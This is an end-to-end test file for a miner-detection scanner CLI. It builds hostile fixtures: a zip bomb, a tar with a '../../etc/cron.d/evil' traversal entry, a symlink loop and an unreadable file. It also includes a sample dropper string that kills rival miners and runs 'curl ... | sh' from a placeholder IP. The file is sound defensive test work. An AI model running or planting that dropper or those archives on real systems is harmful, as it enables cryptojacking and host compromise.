// End-to-end: hostile trees are survived with a reported skip, and what can be scanned still is:
// a zip bomb (reported, not expanded), a tar with ../ entries, a tar.gz, a symlink loop, a FIFO, an
// unreadable file (the CLI runs without CAP_DAC_OVERRIDE so root cannot read it), empty and
// over-limit files, and a file whose name is not valid UTF-8.
import { randomBytes } from 'node:crypto';
import { execFile, spawn } from 'node:child_process';
import { chmod, mkdir, rm, symlink, writeFile } from 'node:fs/promises';
import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { promisify } from 'node:util';
import { deflateRawSync, gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Snapshot } from '../../src/snapshot/schema.js';
import { CLI_PATH, REPO_ROOT, ensureBuilt, type ReportJson } from '../helpers/cli.js';
import { makeTempDir } from '../helpers/lookalike.js';

const execFileP = promisify(execFile);
const DROPPER =
  'pkill -9 xmrig\npkill -9 kdevtmpfsi\nkillall -9 kinsing\ncurl -fsSL http://192.0.2.10/x.sh | sh\n';

/** A tar archive: 512-byte ustar headers and bodies, with names written as given (../ included). */
function tar(entries: { name: string; data: Buffer }[]): Buffer {
  const blocks: Buffer[] = [];
  for (const e of entries) {
    const h = Buffer.alloc(512);
    h.write(e.name, 0, 100, 'utf8');
    h.write('0000644\0', 100);
    h.write('0000000\0', 108);
    h.write('0000000\0', 116);
    h.write(e.data.length.toString(8).padStart(11, '0') + '\0', 124);
    h.write('00000000000\0', 136);
    h.write('        ', 148);
    h.write('0', 156);
    h.write('ustar\0' + '00', 257);
    let sum = 0;
    for (const b of h) sum += b;
    h.write(sum.toString(8).padStart(6, '0') + '\0 ', 148);
    blocks.push(h, e.data, Buffer.alloc((512 - (e.data.length % 512)) % 512));
  }
  blocks.push(Buffer.alloc(1024));
  return Buffer.concat(blocks);
}

/** A one-entry deflated zip (local header, data, central directory, end record). */
function zip(name: string, plain: Buffer): Buffer {
  const data = deflateRawSync(plain, { level: 9 });
  const n = Buffer.from(name);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(plain.length, 22);
  local.writeUInt16LE(n.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(plain.length, 24);
  central.writeUInt16LE(n.length, 28);
  central.writeUInt32LE(0, 42);
  const cdOffset = 30 + n.length + data.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(46 + n.length, 12);
  end.writeUInt32LE(cdOffset, 16);
  return Buffer.concat([local, n, data, central, n, end]);
}

interface Run {
  code: number | null;
  stdout: string;
  stderr: string;
}

/** The CLI without CAP_DAC_OVERRIDE/CAP_DAC_READ_SEARCH, so a mode-000 file is unreadable even as root. */
function runWithoutDacOverride(args: string[]): Promise<Run> {
  return new Promise((resolve, reject) => {
    const child = spawn(
      'setpriv',
      ['--bounding-set=-dac_override,-dac_read_search', '--', process.execPath, CLI_PATH, ...args],
      { cwd: REPO_ROOT, stdio: ['ignore', 'pipe', 'pipe'] },
    );
    let stdout = '';
    let stderr = '';
    child.stdout.setEncoding('utf8').on('data', (d: string) => (stdout += d));
    child.stderr.setEncoding('utf8').on('data', (d: string) => (stderr += d));
    child.once('error', reject);
    child.once('close', (code) => resolve({ code, stdout, stderr }));
  });
}

let dir: string;
let tree: string;
let snapshot: Snapshot;
let report: ReportJson;

beforeAll(async () => {
  await ensureBuilt();
  dir = await makeTempDir('minehunter-content-hostile-');
  tree = path.join(dir, 'tree');
  await mkdir(path.join(tree, 'loop'), { recursive: true });
  // 64 MiB of zeros deflate to about 64 KiB: a 1000:1 ratio no real archive has.
  await writeFile(path.join(tree, 'bomb.zip'), zip('zeros.bin', Buffer.alloc(64 * 1024 * 1024)));
  await writeFile(
    path.join(tree, 'escape.tar'),
    tar([
      { name: '../../etc/cron.d/evil', data: Buffer.from(DROPPER) },
      { name: 'ok.txt', data: Buffer.from('hello\n') },
    ]),
  );
  await writeFile(
    path.join(tree, 'bundle.tar.gz'),
    gzipSync(tar([{ name: 'inner/clean.sh', data: Buffer.from(DROPPER) }])),
  );
  await symlink('b', path.join(tree, 'loop', 'a'));
  await symlink('a', path.join(tree, 'loop', 'b'));
  await execFileP('mkfifo', [path.join(tree, 'pipe')]);
  await writeFile(path.join(tree, 'secret.sh'), DROPPER);
  await chmod(path.join(tree, 'secret.sh'), 0o000);
  await writeFile(path.join(tree, 'empty'), '');
  // Over the 1 MiB limit: random bytes cannot all be read within the windows' budget; one repeated
  // byte value is settled without a read of its middle.
  await writeFile(path.join(tree, 'big.bin'), randomBytes(2 * 1024 * 1024));
  await writeFile(path.join(tree, 'big-constant.bin'), Buffer.alloc(2 * 1024 * 1024, 0x41));
  writeFileSync(
    Buffer.concat([Buffer.from(tree + '/bad'), Buffer.from([0xff, 0xfe]), Buffer.from('.sh')]),
    DROPPER,
  );

  const common = ['--path', tree, '--no-cache', '--max-file-size', '1'];
  const collected = await runWithoutDacOverride(['collect', ...common]);
  expect(collected.code, collected.stderr).toBe(0);
  snapshot = JSON.parse(collected.stdout) as Snapshot;
  const scanned = await runWithoutDacOverride(['scan', ...common, '--format', 'json']);
  expect(scanned.code, scanned.stderr).toBe(1);
  report = JSON.parse(scanned.stdout) as ReportJson;
}, 120_000);

afterAll(async () => {
  if (dir) await rm(dir, { recursive: true, force: true });
});

const skipOf = (p: string) =>
  snapshot.content?.skipped.filter((s) => s.path === p).map((s) => s.reason) ?? [];
const found = (p: string) =>
  report.findings.some(
    (f) => f.ruleId === 'content-match' && f.evidence.some((e) => e.type === 'file' && e.path === p),
  );

describe('content scan of a hostile tree', () => {
  it('reports the zip bomb without expanding it', () => {
    expect(skipOf(`${path.join(tree, 'bomb.zip')}!zeros.bin`)).toEqual(['archive-bomb']);
    expect(snapshot.content?.skipped.find((s) => s.reason === 'archive-bomb')?.detail).toMatch(/ratio \d+:1/);
  });

  it('reports the ../ tar entry and still finds the dropper in it', () => {
    const entry = `${path.join(tree, 'escape.tar')}!../../etc/cron.d/evil`;
    expect(skipOf(entry)).toEqual(['unsafe-archive-path']);
    expect(found(entry)).toBe(true);
  });

  it('looks inside a tar.gz', () => {
    expect(found(`${path.join(tree, 'bundle.tar.gz')}!inner/clean.sh`)).toBe(true);
  });

  it('survives the symlink loop, the FIFO, the unreadable, empty and over-limit files with a reported skip', () => {
    expect(skipOf(path.join(tree, 'loop', 'a'))).toEqual(['symlink-loop']);
    expect(skipOf(path.join(tree, 'pipe'))).toEqual(['special-file']);
    expect(skipOf(path.join(tree, 'secret.sh'))).toEqual(['unreadable']);
    expect(skipOf(path.join(tree, 'empty'))).toEqual(['empty']);
    expect(skipOf(path.join(tree, 'big.bin'))).toEqual(['partly-scanned']);
    expect(skipOf(path.join(tree, 'big-constant.bin'))).toEqual([]);
    const record = snapshot.collection.find((c) => c.collector === 'content.scan');
    // An unreadable file makes the section partial: "not read" is never reported as clean.
    expect(record?.status).toBe('partial');
  });

  it('scans a file whose name is not valid UTF-8 and names it with the bytes escaped', () => {
    expect(found(`${tree}/bad\\xff\\xfe.sh`)).toBe(true);
  });
});
